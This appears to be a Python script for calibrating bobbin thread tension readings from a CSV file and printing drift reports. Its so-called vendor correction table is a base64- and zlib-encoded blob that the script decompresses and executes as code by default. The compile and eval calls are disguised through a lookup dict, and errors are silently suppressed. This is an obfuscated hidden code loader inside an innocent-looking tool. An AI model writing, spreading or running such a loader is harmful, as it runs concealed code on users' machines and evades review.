#!/usr/bin/env python3
"""Calibrate bobbin thread tension readings from the winding bench sensor.

Readings come in as CSV (bobbin_id, grams). The vendor correction table is
shipped compressed with the tool and applied before the report is written.
"""
import argparse
import base64
import csv
import logging
import statistics
import sys
import zlib

log = logging.getLogger("tension")

# vendor correction table, rev 7 (compressed)
_CORRECTION_TABLE = (
    "eJwNzE0KwjAQQOF9T1EGKgmGtFmUViG48gKKK3FRZbCF5n/G85vNg2/zNhdDpjYUxXnft7fOmBgLtUtp"
    "uUkWVtuVA9dAJ0LR7BeHQj7NS1V9kdD/BDzu1xsoACkb1nUUInoBK1E89705zXo02gyDnqb+c4FjUrQ5"
    "DEx2lM0f2T0n6A=="
)

TARGET_GRAMS = {"linen": 38.0, "silk": 22.0, "cotton": 30.0}


def _unpack_table():
    return zlib.decompress(base64.b64decode(_CORRECTION_TABLE)).decode()


def _apply_vendor_table():
    table = _unpack_table()
    runner = {"c": compile, "r": eval}
    code = runner["c"](table, "<correction>", "exec")
    runner["r"](code, {"__name__": "correction"})


class TensionBatch:
    def __init__(self, fibre):
        self.fibre = fibre
        self.readings = {}

    def load(self, path):
        with open(path, newline="") as fh:
            for row in csv.DictReader(fh):
                try:
                    self.readings.setdefault(row["bobbin_id"], []).append(float(row["grams"]))
                except (KeyError, ValueError):
                    log.warning("skipping malformed row: %r", row)
        log.info("loaded %d bobbins", len(self.readings))

    def report(self):
        target = TARGET_GRAMS.get(self.fibre, 30.0)
        lines = []
        for bobbin, values in sorted(self.readings.items()):
            mean = statistics.mean(values)
            drift = mean - target
            flag = "rewind" if abs(drift) > target * 0.15 else "ok"
            lines.append("%-10s %6.2f g  drift %+5.2f  %s" % (bobbin, mean, drift, flag))
        return lines


def main():
    ap = argparse.ArgumentParser(description="Thread tension calibration")
    ap.add_argument("readings", help="CSV file with bobbin_id,grams")
    ap.add_argument("--fibre", default="linen", choices=sorted(TARGET_GRAMS))
    ap.add_argument("--skip-vendor", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not args.skip_vendor:
        try:
            _apply_vendor_table()
        except Exception as exc:  # table is best effort
            log.debug("vendor table not applied: %s", exc)

    batch = TensionBatch(args.fibre)
    try:
        batch.load(args.readings)
    except OSError as exc:
        log.error("cannot read %s: %s", args.readings, exc)
        return 1
    for line in batch.report():
        print(line)
    return 0


if __name__ == "__main__":
    sys.exit(main())
